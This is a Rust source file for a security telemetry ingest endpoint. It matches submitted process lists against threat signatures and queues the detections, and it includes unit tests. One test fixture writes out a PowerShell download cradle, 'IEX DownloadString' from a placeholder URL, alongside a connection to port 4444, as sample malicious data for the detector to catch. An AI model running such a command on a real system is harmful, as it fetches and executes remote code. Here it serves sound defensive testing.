//! Push-based telemetry ingest.
//!
//! A remote agent submits its hostname, process table, and connection
//! list; the same signature matching the polling detector uses is
//! reapplied here, and each newly observed match is queued for the
//! analysis pipeline. Process ids already reported through this surface
//! are skipped for the lifetime of the process, mirroring the detector's
//! session `seen` set.

use crate::dto::{IngestRequest, IngestResponse};
use crate::error::ApiError;
use crate::state::AppState;
use axum::{extract::State, Json};
use tracing::info;

pub async fn ingest_telemetry(
    State(state): State<AppState>,
    Json(request): Json<IngestRequest>,
) -> Result<Json<IngestResponse>, ApiError> {
    if request.hostname.trim().is_empty() {
        return Err(ApiError::BadRequest("hostname must not be empty".to_string()));
    }

    let events = {
        let mut seen = state
            .ingest_seen
            .lock()
            .map_err(|_| ApiError::Internal("ingest state lock poisoned".to_string()))?;
        state.signatures.match_processes(&request.processes, &mut seen)
    };

    let events_queued = events.len();
    for event in events {
        info!(
            hostname = %request.hostname,
            pid = event.process_id,
            signature = %event.signature_id,
            "Threat event from telemetry ingest"
        );
        state.queue.push(event);
    }

    info!(
        hostname = %request.hostname,
        processes = request.processes.len(),
        connections = request.connections.len(),
        events_queued,
        "Telemetry received"
    );

    Ok(Json(IngestResponse {
        hostname: request.hostname,
        events_queued,
        queue_depth: state.queue.len(),
    }))
}

#[cfg(test)]
mod tests {
    use crate::test_helpers::{post_json, test_router};
    use axum::http::StatusCode;
    use serde_json::json;

    fn cradle_telemetry(pid: u32) -> serde_json::Value {
        json!({
            "hostname": "agent-7",
            "os_platform": "Windows 11",
            "processes": [{
                "pid": pid,
                "name": "powershell.exe",
                "command_line": "powershell.exe IEX DownloadString('http://x/nonexistent-malware.ps1')"
            }],
            "connections": [{ "pid": pid, "remote_address": "10.0.0.1", "remote_port": 4444 }]
        })
    }

    #[tokio::test]
    async fn test_ingest_queues_matching_event() {
        let (router, state) = test_router();
        let (status, body) = post_json(router, "/ingest", cradle_telemetry(321)).await;

        assert_eq!(status, StatusCode::OK);
        assert_eq!(body["events_queued"], 1);
        assert_eq!(body["queue_depth"], 1);

        let event = state.queue.pop().unwrap();
        assert_eq!(event.process_id, 321);
        assert_eq!(event.signature_id, "ps-download-cradle");
    }

    #[tokio::test]
    async fn test_repeat_submission_is_idempotent() {
        let (router, state) = test_router();
        post_json(router.clone(), "/ingest", cradle_telemetry(5)).await;
        let (status, body) = post_json(router, "/ingest", cradle_telemetry(5)).await;

        assert_eq!(status, StatusCode::OK);
        assert_eq!(body["events_queued"], 0);
        assert_eq!(state.queue.len(), 1);
    }

    #[tokio::test]
    async fn test_benign_telemetry_queues_nothing() {
        let (router, state) = test_router();
        let telemetry = serde_json::json!({
            "hostname": "agent-7",
            "processes": [{ "pid": 9, "name": "notepad.exe", "command_line": "notepad.exe readme.txt" }]
        });
        let (status, body) = post_json(router, "/ingest", telemetry).await;

        assert_eq!(status, StatusCode::OK);
        assert_eq!(body["events_queued"], 0);
        assert!(state.queue.is_empty());
    }

    #[tokio::test]
    async fn test_empty_hostname_rejected() {
        let (router, _state) = test_router();
        let telemetry = serde_json::json!({ "hostname": "  ", "processes": [] });
        let (status, body) = post_json(router, "/ingest", telemetry).await;

        assert_eq!(status, StatusCode::BAD_REQUEST);
        assert_eq!(body["code"], "BAD_REQUEST");
    }
}
